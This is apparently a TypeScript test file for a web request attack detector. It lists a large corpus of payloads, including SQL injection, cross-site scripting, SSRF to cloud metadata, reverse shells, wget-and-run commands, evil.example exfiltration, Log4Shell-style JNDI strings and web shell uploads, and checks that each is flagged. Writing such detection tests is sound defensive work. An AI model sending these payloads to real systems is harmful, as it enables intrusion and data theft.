import { describe, expect, it } from 'vitest';
import type { AttackId } from './attack-kinds.ts';
import { readRequest } from './request-reader.ts';
import { type RequestOptions, requestFact } from './web-attack-testing.ts';

/** "§{" stands for what would be a placeholder in a template. */
function seen(uri: string, options?: RequestOptions): string[] {
  const text = JSON.stringify(requestFact(uri, options)).replaceAll('§', '$').replaceAll('%C2%A7', '%24');
  const fact = { ...JSON.parse(text), timeUs: 0 };
  return readRequest(fact)
    .filter(({ certainty }) => certainty !== 'weak')
    .map(({ attack }) => attack);
}

/** Attacks in a query, as they would be typed: encoded as browsers do, and in each of several other ways. */
const IN_QUERIES: Readonly<Partial<Record<AttackId, readonly string[]>>> = {
  'sql-injection': [
    "1' or '1'='1",
    "' or 1=1-- -",
    "admin'-- ",
    "admin' #",
    "') or ('a'='a",
    '" or ""="',
    '1 or 1=1',
    '1) or (1=1',
    '-1 union select 1,2,3',
    "x' union all select null,null,version()-- -",
    '1/**/union/**/select/**/user,pass/**/from/**/users',
    "1'/*!50000union*//*!50000select*/1,2",
    '1;drop table users--',
    "1'; insert into admins values('x','y')--",
    "1'; exec master..xp_cmdshell 'dir'--",
    '1 and sleep(5)',
    "1' and benchmark(5000000,md5(1))#",
    "1;waitfor delay '0:0:5'--",
    '1||pg_sleep(5)',
    'if(now()=sysdate(),sleep(15),0)',
    "1' and extractvalue(1,concat(0x7e,version()))-- -",
    '1 and updatexml(1,concat(0x7e,(select user())),1)',
    '1 and (select count(*) from information_schema.tables)>5',
    '1 and ascii(substr((select 1),1,1))>64',
    "1' and 5432=5432 and 'a'='a",
    '1 order by 10--',
    "1' order by 3#",
    '(select(0)from(select(sleep(15)))v)',
    "1' and (select 1 from(select count(*),concat(0x71,floor(rand(0)*2))x from information_schema.plugins group by x)a)-- -",
    "' || (select banner from v$version where rownum=1)||'",
    "1' into outfile '/var/www/html/x.php",
    "1' and load_file('/etc/passwd')-- -",
    "' having 1=1--",
    '1 rlike (case when (1=1) then 1 else 0x28 end)',
    "' or true--",
    "x' or name like '%a%",
    "1' xor(if(now()=sysdate(),sleep(5),0))xor'z",
  ],
  'cross-site-scripting': [
    '<script>alert(1)</script>',
    '<ScRiPt >prompt(1)</sCrIpT>',
    '"><script src=//evil.example/x.js></script>',
    '<img src=x onerror=alert(1)>',
    '<svg/onload=alert`1`>',
    '" onmouseover="alert(1)',
    "' autofocus onfocus=alert(1) x='",
    'javascript:alert(document.cookie)',
    "';alert(1)//",
    '"-alert(1)-"',
    '<iframe src="javascript:alert(1)">',
    '<body onload=confirm(1)>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<details open ontoggle=alert(1)>',
    '</title><script>alert(1)</script>',
    '<script>console.log("x");console.log(document.cookie);</script>',
    '<input onfocus=eval(atob(this.id)) autofocus>',
    '<math><mtext><img src onerror=alert(1)>',
    '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  ],
  'path-traversal': [
    '../../../../etc/passwd',
    '..\\..\\..\\windows\\win.ini',
    '....//....//....//etc/passwd',
    '../../../../boot.ini\0.jpg',
    '/var/www/../../etc/shadow',
    '../../../../proc/self/environ',
    '..;/..;/..;/web-inf/web.xml',
    '../../../../../../../../x',
  ],
  'file-inclusion': [
    '/etc/passwd',
    'php://filter/convert.base64-encode/resource=index.php',
    'php://input',
    'expect://id',
    'file:///etc/passwd',
    'c:\\windows\\win.ini',
    'data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOz8+',
    'phar://x.jpg/y',
    'WEB-INF/web.xml',
  ],
  'server-side-request': [
    'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
    'http://metadata.google.internal/computeMetadata/v1/',
    'http://2852039166/latest/',
    'gopher://127.0.0.1:6379/_INFO',
    'dict://127.0.0.1:11211/stats',
    'http://a@169.254.169.254/',
  ],
  'command-injection': [
    '127.0.0.1;id',
    '127.0.0.1 | cat /etc/passwd',
    '8.8.8.8 && whoami',
    'x`id`',
    '$(whoami)',
    '127.0.0.1;ls -la',
    'a;wget http://1.2.3.4/x.sh -O- | sh',
    '1|nc -e /bin/sh 10.0.0.1 4444',
    ';bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
    "127.0.0.1;c''at /etc/passwd",
    '127.0.0.1;cat§{IFS}/etc/passwd',
    '1 & ping -n 5 127.0.0.1 &',
    '|| sleep 10',
    ';uname -a',
    '127.0.0.1\nid',
    '127.0.0.1 & ipconfig',
    '1 | type c:\\windows\\win.ini',
    'a;/usr/bin/id',
    ';curl http://evil.example/$(whoami)',
    '1;echo $((41*271))',
    '`wget http://evil.example`',
    '& net user hack pass /add',
  ],
  'template-injection': [
    '{{7*7}}',
    '§{7*7}',
    '#{7*7}',
    '<%= 7*7 %>',
    "{{7*'7'}}",
    "{{''.__class__.__mro__[2].__subclasses__()}}",
    "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
    '<#assign ex="freemarker.template.utility.Execute"?new()>§{ex("id")}',
  ],
  'code-injection': [
    'phpinfo()',
    "system('id')",
    "<?php system($_GET['c']); ?>",
    '@eval($_POST[x]);',
    'eval(base64_decode("aWQ="))',
    '%{(#_memberAccess["allowStaticMethodAccess"]=true)}',
    "§{@java.lang.Runtime@getRuntime().exec('id')}",
    'T(java.lang.Runtime).getRuntime().exec("id")',
    "require('child_process').exec('id')",
  ],
  'jndi-lookup': [
    '§{jndi:ldap://evil.example/a}',
    '§{§{lower:j}ndi:§{lower:l}dap://evil.example:1389/a}',
    '§{§{::-j}§{::-n}§{::-d}§{::-i}:§{::-r}§{::-m}§{::-i}://evil.example/a}',
    '§{§{env:NaN:-j}ndi§{env:NaN:-:}§{env:NaN:-l}dap§{env:NaN:-:}//evil.example/a}',
    '§{jndi:dns://§{hostName}.evil.example/a}',
    '§{jndi:ldap://127.0.0.1#evil.example/a',
  ],
  deserialisation: [
    'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA',
    'O:8:"Evil":1:{s:3:"cmd";s:2:"id";}',
    'AAEAAAD/////AQAAAAAAAAAMAgAAAF',
    'a:1:{i:0;O:4:"Evil":0:{}}',
    'gASVIAAAAAAAAACMBXBvc2l4lIwGc3lzdGVt',
  ],
};

function percentAll(text: string): string {
  return [...text].map((character) => `%${character.charCodeAt(0).toString(16).padStart(2, '0')}`).join('');
}

const ENCODINGS: readonly (readonly [name: string, encode: (text: string) => string])[] = [
  ['as browsers do', encodeURIComponent],
  ['with plus for space', (text) => encodeURIComponent(text).replaceAll('%20', '+')],
  ['every character', percentAll],
  ['twice', (text) => encodeURIComponent(encodeURIComponent(text))],
];

describe('attacks in a query are seen', () => {
  for (const [attack, payloads] of Object.entries(IN_QUERIES)) {
    describe.each(ENCODINGS)(`${attack} encoded %s`, (_, encode) => {
      it.each(payloads)('%j', (payload) => {
        expect(seen(`/page.php?a=1&id=${encode(payload.replaceAll('§', '$'))}&b=2`)).toContain(attack);
      });
    });
  }
});

describe('attacks elsewhere in a request are seen', () => {
  const php = 'application/x-www-form-urlencoded';
  it.each<[AttackId, string, RequestOptions]>([
    ['path-traversal', '/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh', { body: 'echo;id', type: '' }],
    ['command-injection', '/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh', { body: 'echo;id', type: 'text/plain' }],
    ['path-traversal', '/icons/..%c0%af..%c0%afetc/passwd', {}],
    ['path-traversal', '/static/..%252f..%252f..%252fetc/passwd', {}],
    ['path-traversal', '/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp', {}],
    ['path-traversal', '/vpn/../vpns/portal/../../../../etc/passwd', {}],
    ['jndi-lookup', '/', { headers: [['x-api-version', '§{jndi:ldap://10.0.0.9:1389/a}']] }],
    ['jndi-lookup', '/$%7Bjndi:ldap://10.0.0.9/a%7D', {}],
    ['jndi-lookup', '/', { body: '{"user":"§{jndi:rmi://10.0.0.9/a}"}', type: 'application/json' }],
    [
      'shellshock',
      '/cgi-bin/status',
      { userAgent: '() { :;}; /bin/bash -c "id"', headers: [['user-agent', '() { :;}; /bin/bash -c "id"']] },
    ],
    ['shellshock', '/cgi-bin/x.sh', { headers: [['referer', '() { ignored; }; echo; /usr/bin/whoami']] }],
    [
      'code-injection',
      '/upload.action',
      {
        body: 'x',
        type: "%{(#nike='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
        headers: [['content-type', "%{(#nike='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}"]],
      },
    ],
    ['code-injection', '/', { body: 'class.module.classLoader.resources.context.parent.pipeline.first.pattern=x' }],
    [
      'code-injection',
      '/index.php?s=/index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id',
      {},
    ],
    [
      'code-injection',
      '/?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input',
      { body: "<?php system('id');?>", type: 'text/html' },
    ],
    ['code-injection', '/%24%7B%28%23a%3D%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%29%7D/', {}],
    [
      'external-entity',
      '/api',
      {
        body: '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
        type: 'application/xml',
      },
    ],
    [
      'external-entity',
      '/api',
      { body: '<!DOCTYPE r [<!ENTITY % x SYSTEM "http://evil.example/x.dtd">%x;]><r/>', type: 'text/xml' },
    ],
    ['nosql-injection', '/login', { body: '{"user":{"$ne":null},"pass":{"$ne":null}}', type: 'application/json' }],
    ['nosql-injection', '/login', { body: 'user=a&password[$ne]=1' }],
    ['nosql-injection', '/login', { body: 'user=a&password%5B%24regex%5D=.*' }],
    ['sql-injection', '/login', { body: 'user=admin%27+or+1%3D1--+&pass=x' }],
    ['sql-injection', '/api', { body: `{"id":"1' union select 1,2-- -"}`, type: 'application/json' }],
    ['sql-injection', '/', { headers: [['x-forwarded-for', "1' and sleep(5)-- -"]] }],
    ['sql-injection', '/', { headers: [['cookie', "id=1' or '1'='1"]] }],
    ['sql-injection', "/news/1'+union+select+1,2--+-", {}],
    ['cross-site-scripting', '/guestbook', { body: 'name=x&text=%3Cscript%3Ealert(%22x%22)%3C%2Fscript%3E' }],
    ['cross-site-scripting', '/%3Cscript%3Ealert(1)%3C/script%3E', {}],
    ['command-injection', '/shell?cd+/tmp;rm+-rf+*;wget+http://1.2.3.4/arm;sh+/tmp/arm', {}],
    ['command-injection', '/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id>/tmp/x)', {}],
    ['command-injection', '/cgi-bin/;cd§{IFS}/tmp;wget§{IFS}http://1.2.3.4/x', {}],
    [
      'command-injection',
      '/ctrlt/DeviceUpgrade_1',
      {
        body: '<s:Envelope><NewStatusURL>$(/bin/busybox wget -g 1.2.3.4 -l /tmp/x -r /x; sh /tmp/x)</NewStatusURL></s:Envelope>',
        type: 'text/xml',
      },
    ],
    ['command-injection', '/uploads/s.php?cmd=whoami', {}],
    ['command-injection', '/uploads/s.jsp?cmd=cat+/etc/passwd', {}],
    [
      'command-injection',
      '/boaform/admin/formPing',
      { body: 'target_addr=;wget+http://1.2.3.4/a+-O+/tmp/a;sh+/tmp/a&waninf=1' },
    ],
    [
      'code-injection',
      '/user/register?element_parents=account/mail/%23value',
      { body: 'form_id=user_register_form&mail%5B%23post_render%5D%5B%5D=exec&mail%5B%23markup%5D=id' },
    ],
    ['sql-injection', '/node', { body: 'name%5B0%20;update+users+set+name%3D%27a%27;%23%5D=x&pass=y' }],
    ['header-injection', '/r?u=a%0d%0aSet-Cookie:%20x=1', {}],
    ['ldap-injection', '/login?user=*)(%7C(uid=*', {}],
    ['code-injection', '/p?x=%3C!--%23exec%20cmd=%22id%22--%3E', {}],
    [
      'web-shell',
      '/x.php',
      {
        body: 'a=@eval(base64_decode($_POST[z0]));&z0=QGluaV9zZXQoImRpc3BsYXlfZXJyb3JzIiwiMCIpO0BzZXRfdGltZV9saW1pdCgwKTs%3D',
        type: php,
      },
    ],
    [
      'web-shell-upload',
      '/upload.php',
      {
        body: '--b\r\nContent-Disposition: form-data; name="f"; filename="s.php"\r\nContent-Type: image/png\r\n\r\n<?php system($_GET["c"]); ?>\r\n--b--',
        type: 'multipart/form-data; boundary=b',
      },
    ],
    [
      'web-shell-upload',
      '/x.jsp/',
      { method: 'PUT', body: '<% Runtime.getRuntime().exec(request.getParameter("c")); %>', type: '' },
    ],
    [
      'deserialisation',
      '/invoker/JMXInvokerServlet',
      {
        body: '\xac\xed\x00\x05sr\x00*org.apache.commons.collections.functors.InvokerTransformer',
        type: 'application/x-java-serialized-object',
      },
    ],
    [
      'deserialisation',
      '/',
      {
        body: '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://1.2.3.4/a"}',
        type: 'application/json',
      },
    ],
    [
      'deserialisation',
      '/wls-wsat/CoordinatorPortType',
      {
        body: '<soap><java><object class="java.lang.ProcessBuilder"><void method="start"/></object></java></soap>',
        type: 'text/xml',
      },
    ],
    ['deserialisation', '/', { headers: [['cookie', 'session=O:4:"Evil":1:{s:1:"a";i:1;}']] }],
  ])('%s in %s', (attack, uri, options) => {
    expect(seen(uri, options)).toContain(attack);
  });
});
